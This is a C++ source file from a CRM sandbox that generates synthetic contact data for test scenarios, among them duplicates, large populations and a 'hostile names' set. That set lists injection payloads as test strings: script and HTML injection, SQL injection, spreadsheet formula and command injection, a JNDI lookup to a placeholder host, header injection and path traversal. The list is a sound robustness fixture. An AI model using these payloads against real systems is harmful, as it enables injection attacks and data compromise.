// Each scenario is the usual crowd, made larger or bent.
#include "server/sandbox/scenarios.h"

#include <array>
#include <chrono>
#include <map>
#include <utility>
#include <vector>

#include "server/sandbox/derived.h"
#include "shared/text.h"

namespace crm::sandbox {
namespace {

constexpr std::pair<Scenario, std::string_view> kNames[] = {
    {Scenario::Clean, "clean"},
    {Scenario::Overlapping, "overlapping"},
    {Scenario::Duplicates, "duplicates"},
    {Scenario::TenThousand, "10k"},
    {Scenario::HundredThousand, "100k"},
    {Scenario::HostileNames, "hostile names"},
    {Scenario::HostileNames, "hostile-names"}};

// Texts that programs stumble over: markup, queries, formulas, words that look like values, other
// directions, invisible and combining marks, long ones.
constexpr std::array<std::string_view, 24> kHostile = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</textarea><b>bold</b>",
    "Robert'); DROP TABLE contacts;--",
    "' OR '1'='1",
    "=HYPERLINK(\"http://example.invalid\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "${jndi:ldap://x.invalid/a}",
    "{{7*7}}",
    "%00%0d%0aSet-Cookie:x",
    "..\\..\\..\\etc\\passwd",
    "O'Brien-\u2019Smith \"Bo\"",
    "\u202Egnp.exe\u202C",
    "a\u200Bb\u200Dc\uFEFFd",
    "Z\u0335\u0301\u0327a\u0335\u0302l\u0336\u0308g\u0337\u0303o\u0334",
    "\U0001F468\u200D\U0001F469\u200D\U0001F467 \U0001F1E8\U0001F1FF",
    "\u0645\u062D\u0645\u062F \u05D3\u05D5\u05D3 abc",
    "\u00A0\u2003wide\u3000blanks\u00A0"};

std::string hostile_text(Dice& dice) {
    if (dice.hits(5)) return std::string(120, 'W');
    return std::string(kHostile.at(dice.below(kHostile.size())));
}

void make_hostile(Newcomer& newcomer, const std::string& text) {
    Draft& draft = newcomer.draft;
    if (draft.name) draft.name = text + " " + *draft.name;
    if (draft.first_name) draft.first_name = text + " " + *draft.first_name;
    draft.job_title = text;
    draft.company = text;
}

// Records of one person are found by the e-mail, which is in no other person's.
void add_hostile(Population& population, Dice& dice) {
    std::map<std::string, std::string> texts;
    for (std::vector<Newcomer>* side : {&population.hubspot, &population.pipedrive}) {
        for (Newcomer& newcomer : *side) {
            const std::string key = fold(newcomer.draft.email.value_or(""));
            const auto [place, is_new] = texts.try_emplace(key);
            if (is_new && dice.hits(60)) place->second = hostile_text(dice);
            if (!place->second.empty()) make_hostile(newcomer, place->second);
        }
    }
}

// "ANN LEE", "Ann  Lee" with another e-mail, or the same e-mail in capitals: what people type who
// do not look first.
Newcomer duplicate_of(const Newcomer& original, System system, Dice& dice) {
    Newcomer copy = original;
    const std::string email = original.draft.email.value_or("");
    const std::size_t at = email.find('@');
    // HubSpot allows an address once only; there a duplicate has another one, or none.
    if (system == System::HubSpot || dice.hits(30)) {
        copy.draft.email = dice.hits(50) ? "" : "info+" + email;
        if (copy.draft.email->empty() && !copy.draft.phone) copy.draft.phone = "+1 202 555 0100";
    } else if (at != std::string::npos && dice.hits(50)) {
        std::string shouted = email;
        for (std::size_t i = 0; i < at; ++i) {
            if (shouted[i] >= 'a' && shouted[i] <= 'z') {
                shouted[i] = static_cast<char>(shouted[i] - 'a' + 'A');
            }
        }
        copy.draft.email = shouted;
    }
    if (dice.hits(30)) copy.draft.company = std::nullopt;
    copy.created_at += std::chrono::hours(24 * (1 + static_cast<int>(dice.below(200))));
    copy.updated_at = copy.created_at;
    return copy;
}

void add_duplicates(std::vector<Newcomer>& people, System system, Dice& dice) {
    const std::size_t originals = people.size();
    for (std::size_t i = 0; i < originals; ++i) {
        if (!dice.hits(25)) continue;
        people.push_back(duplicate_of(people[i], system, dice));
        if (system == System::Pipedrive && dice.hits(30)) {
            people.push_back(duplicate_of(people[i], system, dice));
        }
    }
}

Crowd crowd_of(Scenario scenario) {
    constexpr std::size_t kTenThousand = 10'000;
    switch (scenario) {
        case Scenario::Clean:
            return {.shared = 200, .hubspot_only = 0, .does_agree = true};
        case Scenario::TenThousand:
        case Scenario::HundredThousand: {
            const std::size_t people =
                scenario == Scenario::TenThousand ? kTenThousand : 10 * kTenThousand;
            return {.people = people,
                    .shared = people * 6 / 10,
                    .hubspot_only = people * 2 / 10,
                    .can_share_names = true};
        }
        case Scenario::Overlapping:
        case Scenario::Duplicates:
        case Scenario::HostileNames:
            break;
    }
    return {};
}

}  // namespace

std::optional<Scenario> find_scenario(std::string_view name) {
    for (const auto& [scenario, known] : kNames) {
        if (known == name) return scenario;
    }
    return std::nullopt;
}

std::string scenario_names() {
    std::string names;
    for (const auto& [scenario, name] : kNames) {
        names += names.empty() ? "" : ", ";
        names += name;
    }
    return names;
}

Population make_scenario(Scenario scenario, std::uint64_t seed, std::string_view customer) {
    Population population = make_population(seed, customer, crowd_of(scenario));
    Dice dice(hash_text(std::to_string(seed) + "|scenario|" + std::string(customer)));
    if (scenario == Scenario::HostileNames) add_hostile(population, dice);
    if (scenario == Scenario::Duplicates) {
        add_duplicates(population.hubspot, System::HubSpot, dice);
        add_duplicates(population.pipedrive, System::Pipedrive, dice);
    }
    return population;
}

}  // namespace crm::sandbox
